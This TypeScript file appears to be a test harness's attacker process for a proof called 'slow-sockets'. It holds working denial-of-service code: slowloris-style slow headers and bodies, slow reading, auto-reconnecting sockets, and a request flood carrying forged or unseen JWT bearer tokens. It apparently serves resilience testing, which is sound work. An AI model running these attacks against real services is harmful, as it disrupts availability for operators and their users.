/**
 * The attacks of the proof `slow-sockets`, from a process of their own that makes way for everybody else. `node attacker.ts '<json>'`;
 * says `attacking` once it does, and ends when its input ends.
 */
import { createPrivateKey, randomBytes, randomUUID, sign } from 'node:crypto';
import { connect, type Socket } from 'node:net';

export interface AttackOptions {
  readonly url: string;
  readonly kind: 'slow' | 'unseen' | 'forged';
  /** Sockets that are open at any time. */
  readonly sockets: number;
  /** Public: anybody may. */
  readonly bigPath: string;
  readonly postPath: string;
  readonly protectedPath: string;
  readonly localAddress: string;
  /** ES256; of `unseen`. */
  readonly privateKey: string;
  /** Of the key that the gateway has. */
  readonly kid: string;
  readonly claims: Readonly<Record<string, unknown>>;
}

const options = JSON.parse(process.argv[2] ?? '{}') as AttackOptions;
const { hostname, port } = new URL(options.url);
const dripMs = 1000;
const counts = { connected: 0, ended: 0, requests: 0 };

const open = (onOpen: (socket: Socket) => void): void => {
  const socket = connect({ host: hostname, port: Number(port), localAddress: options.localAddress });
  socket.on('error', () => undefined);
  socket.once('connect', () => {
    counts.connected += 1;
    onOpen(socket);
  });
  // Whoever is thrown out comes back.
  socket.once('close', () => {
    counts.ended += 1;
    setTimeout(() => open(onOpen), 100);
  });
};

/** One byte a second. */
const drip = (socket: Socket): void => {
  const timer = setInterval(() => socket.write('x'), dripMs * (0.5 + Math.random()));
  socket.once('close', () => clearInterval(timer));
};

const slowHead = (socket: Socket): void => {
  socket.write(`GET ${options.bigPath} HTTP/1.1\r\nhost: a\r\nx-a: `);
  socket.resume();
  drip(socket);
};

const slowBody = (socket: Socket): void => {
  socket.write(`POST ${options.postPath} HTTP/1.1\r\nhost: a\r\ncontent-length: 10000\r\n\r\n{`);
  socket.resume();
  drip(socket);
};

/** Asks for 4 MB and reads a little of it now and then. */
const slowReader = (socket: Socket): void => {
  socket.pause();
  socket.write(`GET ${options.bigPath} HTTP/1.1\r\nhost: a\r\n\r\n`);
  const timer = setInterval(() => void socket.read(100), dripMs);
  socket.once('close', () => clearInterval(timer));
};

const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const header = encode({ alg: 'ES256', typ: 'at+jwt', kid: options.kid });
const key = options.kind === 'unseen' ? createPrivateKey(options.privateKey) : undefined;

/** A token that nobody has seen: with a good signature, or with any. */
const token = (): string => {
  const input = `${header}.${encode({ ...options.claims, jti: randomUUID() })}`;
  const signature =
    key === undefined ? randomBytes(64) : sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
};

/** The next one as soon as the last is answered. */
const flood = (socket: Socket): void => {
  const send = (): void => {
    counts.requests += 1;
    socket.write(`GET ${options.protectedPath} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${token()}\r\n\r\n`);
  };
  socket.on('data', send);
  send();
};

const behaviours = options.kind === 'slow' ? [slowHead, slowBody, slowReader] : [flood];
for (let n = 0; n < options.sockets; n += 1) open(behaviours[n % behaviours.length] ?? flood);
const waiting = setInterval(() => {
  if (counts.connected < options.sockets * 0.9) return;
  clearInterval(waiting);
  process.stdout.write('attacking\n');
}, 20);
process.stdin.resume().on('end', () => {
  process.stdout.write(`${JSON.stringify(counts)}\n`);
  process.exit();
});
